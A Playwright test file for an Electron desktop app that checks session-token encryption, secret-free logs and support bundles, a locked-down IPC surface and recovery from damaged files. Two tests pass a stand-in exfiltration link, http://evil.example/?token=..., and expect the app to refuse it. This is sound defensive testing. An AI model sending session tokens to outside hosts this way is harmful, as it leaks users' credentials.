import { appendFileSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ask, expect, launchDesktop, test } from './fixtures.ts';

const token = 'eyJhbGciOiJIUzI1NiJ9.secret-of-a-session';
const entry = { key: 'sb-127-auth-token', value: token };

/** Whether any file of the profile that the app itself writes holds the text. Chromium's own files are not text. */
function profileHolds(folder: string, text: string): boolean {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((name) => /\.(?:json|log|part)$/.test(name))
    .map((name) => join(folder, name))
    .some((path) => statSync(path).isFile() && readFileSync(path, 'utf8').includes(text));
}

// Playwright starts Electron with --password-store=basic; E2E_KEYRING makes the probe take that switch away again.
test('sessions are sealed on disk and survive a restart', async ({ userDataDir }) => {
  const env = { E2E_KEYRING: '1' };
  const before = await launchDesktop({ userDataDir, env });
  const protection = await ask(before.page, 'session:protection');
  // A Linux machine without a keyring service cannot show this; the spec below is about that case.
  test.info().annotations.push({ type: 'protection', description: JSON.stringify(protection) });
  await ask(before.page, 'session:write', entry);
  await before.app.close();
  expect(profileHolds(userDataDir, token)).toBe(false);
  const after = await launchDesktop({ userDataDir, env });
  const survived = protection.ok && protection.value === 'encrypted' ? token : null;
  expect(await ask(after.page, 'session:read', entry.key)).toEqual({ ok: true, value: survived });
  await ask(after.page, 'session:remove', entry.key);
  await after.app.close();
  const signedOut = await launchDesktop({ userDataDir, env });
  expect(await ask(signedOut.page, 'session:read', entry.key)).toEqual({ ok: true, value: null });
  await signedOut.app.close();
});

test('without a keyring a session lasts until the app quits, and the app says so', async ({ userDataDir }) => {
  // Only Linux can lack a keyring.
  const expected = process.platform === 'linux' ? 'memory-only' : 'encrypted';
  const before = await launchDesktop({ userDataDir });
  expect(await ask(before.page, 'session:protection')).toEqual({ ok: true, value: expected });
  await ask(before.page, 'session:write', entry);
  await before.page.reload();
  expect(await ask(before.page, 'session:read', entry.key)).toEqual({ ok: true, value: token });
  await before.app.close();
  expect(profileHolds(userDataDir, token)).toBe(false);
  const after = await launchDesktop({ userDataDir });
  const survived = expected === 'encrypted' ? token : null;
  expect(await ask(after.page, 'session:read', entry.key)).toEqual({ ok: true, value: survived });
  await after.app.close();
});

test('the log of a run that was full of secrets holds none', async ({ desktop: { page, output }, userDataDir }) => {
  await ask(page, 'session:write', { key: `bad/${token}`, value: token });
  await ask(page, 'calls:ring', {
    sessionId: 'not-an-id',
    callerName: 'Dr Rahman',
    expiresAt: '2030-01-01T00:00:00Z',
    secondsLeft: 1,
  });
  await ask(page, 'links:open-external', `http://evil.example/?token=${token}`);
  await expect.poll(() => profileHolds(userDataDir, 'request-refused')).toBe(true);
  for (const secret of [token, 'Rahman', 'evil.example']) {
    expect([secret, profileHolds(userDataDir, secret), output().includes(secret)]).toEqual([secret, false, false]);
  }
});

test('no channel answers a page but those of the contract', async ({ desktop: { app, page } }) => {
  await ask(page, 'settings:change', { theme: 'dark' });
  // electron-store brings a synchronous one, which would tell any page the profile's folder.
  expect(await app.evaluate(({ ipcMain }) => ipcMain.eventNames())).toEqual([]);
});

test('damaged files do not stop the start, and are kept beside the new ones', async ({ userDataDir }) => {
  const damaged = { 'settings.json': '{"closeToTray": fal', 'session.json': '["not", "ours"]' };
  for (const [name, content] of Object.entries(damaged)) writeFileSync(join(userDataDir, name), content);
  const { app, page } = await launchDesktop({ userDataDir });
  expect(await ask(page, 'settings:read')).toMatchObject({ ok: true });
  expect(await ask(page, 'session:read', entry.key)).toEqual({ ok: true, value: null });
  await ask(page, 'settings:change', { theme: 'dark' });
  await app.close();
  for (const [name, content] of Object.entries(damaged)) {
    expect(readFileSync(join(userDataDir, `${name}.broken`), 'utf8')).toBe(content);
  }
  expect(readFileSync(join(userDataDir, 'settings.json'), 'utf8')).toContain('"dark"');
});

test('the support bundle is saved where the person says, and holds nothing of anybody', async ({
  desktop: { app, page },
  userDataDir,
}) => {
  await ask(page, 'session:write', { key: `bad/${token}`, value: token });
  await ask(page, 'links:open-external', `http://evil.example/?token=${token}`);
  await ask(page, 'session:write', entry);
  appendFileSync(join(userDataDir, 'logs/main.log'), `{"event":"started","reason":"Dr Rahman","name":"${token}"}\n`);
  const path = join(userDataDir, 'chosen.json');
  await app.evaluate(({ dialog }, filePath) => {
    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: false, filePath }) });
  }, path);
  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: true });
  const bundle = readFileSync(path, 'utf8');
  for (const secret of [token, 'Rahman', 'evil.example', userDataDir]) expect(bundle).not.toContain(secret);
  expect(bundle).toContain('"event": "request-refused"');
  await app.evaluate(({ dialog }) => {
    Object.assign(dialog, { showSaveDialog: () => Promise.resolve({ canceled: true, filePath: '' }) });
  });
  expect(await ask(page, 'support:save')).toEqual({ ok: true, value: false });
});
